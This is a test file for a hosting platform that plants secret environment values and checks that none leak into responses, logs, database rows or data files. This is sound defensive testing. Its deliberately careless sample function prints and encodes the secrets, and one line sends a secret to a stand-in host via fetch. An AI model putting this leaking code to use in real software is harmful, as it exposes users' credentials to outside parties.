import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'

import { createLogger } from '#platform/log/create-logger.ts'
import { RuntimeSite } from '#test/runtime-site.ts'
import { PlantedSecret, everyFile, everyRow } from '#test/secret-hunt.ts'
import { type CallOptions, type Stack, startStack } from '#test/stack.ts'

const HOST = 'one.test'
/** What careless code does with what it was given. */
const CARELESS = `
  const ways = {
    print: (env) => { for (const value of Object.values(env)) { console.log(value); console.error({ value }, JSON.stringify(value), btoa(unescape(encodeURIComponent(value))), encodeURIComponent(value)) } },
    cut: (env) => console.log('x'.repeat(8160) + env.FIRST),
    log: (env, ctx) => ctx.log.info(env.FIRST),
    throw: (env) => { throw new Error('cannot sign in with ' + env.FIRST) },
    reject: (env) => { throw { statusCode: 422, code: 'Refused', message: 'not with ' + env.FIRST } },
    code: (env) => { throw { statusCode: 422, code: env.FIRST, message: env.SECOND } },
    reach: (env) => fetch('https://nowhere.test/?key=' + encodeURIComponent(env.FIRST)),
    cycle: (env) => { const a = { [env.FIRST]: 1 }; a.a = a; return a },
    late: async (env) => { setTimeout(() => { throw new Error(env.FIRST) }, 1); await new Promise((done) => setTimeout(done, 50)) },
  }
  export default ({ payload }, ctx) => ways[payload](ctx.env, ctx)`
const WAYS = ['print', 'cut', 'log', 'throw', 'reject', 'code', 'reach', 'cycle', 'late']

let stack: Stack
let site: RuntimeSite
const said: string[] = []
const logged: string[] = []
const planted = new Map<string, PlantedSecret>()
const cleanUp = new AsyncDisposableStack()

const plant = (what: string): string => {
  const secret = new PlantedSecret()
  planted.set(what, secret)
  return secret.value
}

async function readable(path: string): Promise<void> {
  const { status, text } = await site.admin('GET', path)
  if (status !== 200) throw new Error(text)
}

/** Remembers everything that is answered. */
function listenTo(started: Stack): void {
  const call = started.call.bind(started)
  vi.spyOn(started, 'call').mockImplementation(async (...asked) => {
    const answer = await call(...asked)
    said.push(`${JSON.stringify(answer.headers)}\n${answer.text}`)
    return answer
  })
}

beforeAll(async () => {
  const logger = createLogger({ logLevel: 'trace' }, { write: (line) => logged.push(line) })
  stack = cleanUp.use(await startStack({ logger }))
  listenTo(stack)
  site = await RuntimeSite.open(stack, HOST)
  await saveVariables()
  await sendThemInWrongPlaces()
  await runCarelessCode()
  await defineThem()
  const replica = cleanUp.use(await startStack({ beside: stack, logger }))
  listenTo(replica)
  await replica.call(HOST, 'POST', '/data/public/careless', { body: { payload: 'throw' } })
  await site.admin('DELETE', '/env-vars')
  await site.synced()
  for (const path of ['/env-vars', '/resources', '/usage', '/logs?limit=100']) await readable(path)
}, 60_000)
afterAll(() => cleanUp.disposeAsync())

async function saveVariables(): Promise<void> {
  const put = async (variables: object) =>
    expect((await site.admin('PUT', '/env-vars', { variables })).status).toBe(200)
  await put({
    FIRST: { value: plant('a value that was replaced'), secret: true },
    GONE: { value: plant('a value that was deleted'), secret: true },
  })
  await put({ FIRST: { value: plant('a variable') }, GONE: { value: null } })
  await put({ SECOND: { value: plant('another variable'), secret: true } })
  await put({ SECRET_BEFORE: { value: plant('a variable before its definition'), secret: true } })
}

async function sendThemInWrongPlaces(): Promise<void> {
  const value = plant('a value in wrong places')
  const key = plant('a name in wrong places')
  const token = await stack.adminToken(HOST)
  const put = async (options: CallOptions, path = '/admin/data/env-vars') => {
    const json = { 'content-type': 'application/json' }
    const answer = await stack.call(HOST, 'PUT', path, { token, headers: json, ...options })
    expect(answer.status).toBe(400)
  }
  const variables = (content: unknown) => put({ body: { variables: content } })
  await put({ body: value })
  await put({ body: JSON.stringify(value) })
  await put({ body: `{"variables":{"A":{"value":"${key}` })
  await put({ body: { [key]: value, variables: {} } })
  await put({ body: { storageBackend: value, variables: {} } })
  await put({ body: { variables: [] } }, `/admin/data/env-vars?value=${encodeURIComponent(value)}`)
  await variables(value)
  await variables({ [key]: { value } })
  await variables({ [key]: value })
  await variables({ A: value })
  await variables({ A: [value] })
  await variables({ A: { [key]: value } })
  await variables({ A: { value: { [key]: value } } })
  await variables({ A: { value, secret: value } })
  await variables({ A: { value: `${value}\0` } })
  await variables({ A: { value: value.repeat(1000) } })
  await variables({ CROFT_A: { value } })
  await put({ body: { storageBackend: 'ssmString', variables: { A: { value, secret: true } } } })
}

async function runCarelessCode(): Promise<void> {
  const environment = ['FIRST', 'SECOND', 'GONE']
  const lambdaResourceId = await site.putFunction('careless', CARELESS, { environment })
  await site.putOperation('careless', { lambdaResourceId, auth: { mode: 'public' } })
  await site.synced()
  for (const way of WAYS) await site.call('careless', way)
  const lines = await vi.waitUntil(
    async () => {
      const { json } = await site.admin('GET', '/logs?operation=careless&limit=100')
      return json.items.length >= 10 && json.items
    },
    { timeout: 10_000 },
  )
  // It was printed, and it was thrown: only its value is not there.
  expect(JSON.stringify(lines)).toContain('cannot sign in with [secret FIRST]')
  expect(JSON.stringify(lines)).toContain('[secret SECOND]')
}

async function defineThem(): Promise<void> {
  const definition = {
    envVars: [
      { name: 'DEFINED', value: plant('a defined variable'), secret: true },
      { name: 'SECRET_BEFORE', value: plant('a defined variable that was a secret before') },
    ],
  }
  const job = await site.admin('POST', '/iac/jobs', {
    mode: 'apply',
    definitionProfileName: 'kept',
    persistDefinition: true,
    definition,
  })
  expect(job.status, job.text).toBe(200)
  await vi.waitUntil(
    async () => {
      const { json } = await site.admin('GET', `/iac/jobs/${job.json.jobId}`)
      return json.status === 'succeeded'
    },
    { timeout: 20_000 },
  )
  const saved = await site.admin('PUT', '/iac/definitions/direct', { definition })
  expect(saved.status).toBe(200)
  const value = plant('a defined value in wrong places')
  for (const envVars of [
    value,
    [value],
    [{ name: value, value: 'x' }],
    [{ name: 'A', [value]: 1 }],
    [{ name: 'A', value: `${value}\0`, secret: true }],
  ]) {
    await site.admin('POST', '/iac/jobs', { mode: 'plan', definition: { envVars } })
  }
  for (const path of [
    '/iac/export',
    '/iac/jobs',
    '/iac/definitions',
    '/iac/definitions/kept',
    '/iac/definitions/direct',
  ]) {
    expect((await site.admin('GET', path)).status).toBe(200)
  }
  await site.synced()
}

/** What of the planted is in the text, and which text it is. */
const finds = (texts: Iterable<readonly [string, string]>): string[] =>
  [...texts].flatMap(([where, text]) =>
    [...planted].filter(([, secret]) => secret.isIn(text)).map(([what]) => `${what}: ${where}`),
  )

describe('a planted secret', () => {
  test('would be found', () => {
    const [first] = planted.values()
    const value = first?.value ?? ''
    for (const text of [
      `before ${value} after`,
      JSON.stringify({ value }),
      encodeURIComponent(value),
      Buffer.from(`x${value}`).toString('base64'),
      Buffer.from(value).toString('hex'),
      value.slice(0, 24),
    ]) {
      expect(first?.isIn(text)).toBe(true)
    }
    expect(planted.size).toBe(10)
  })

  test('is in no answer', () => {
    expect(said.length).toBeGreaterThan(50)
    expect(finds(said.map((text) => [text.slice(0, 2000), text]))).toEqual([])
  })

  test('is in no line of the service’s own log', () => {
    expect(logged.length).toBeGreaterThan(30)
    expect(finds(logged.map((line) => [line, line]))).toEqual([])
  })

  test('is in no row of the database, sealed or not', async () => {
    const rows = await everyRow(stack)
    expect(rows.get('public.site_revision')).toContain('FIRST')
    expect(rows.get('public.runtime_log')).toContain('[secret FIRST]')
    expect(finds(rows)).toEqual([])
  })

  test('is in no file of the data folder', async () => {
    expect(finds(await everyFile(stack.dataDir))).toEqual([])
  })
})
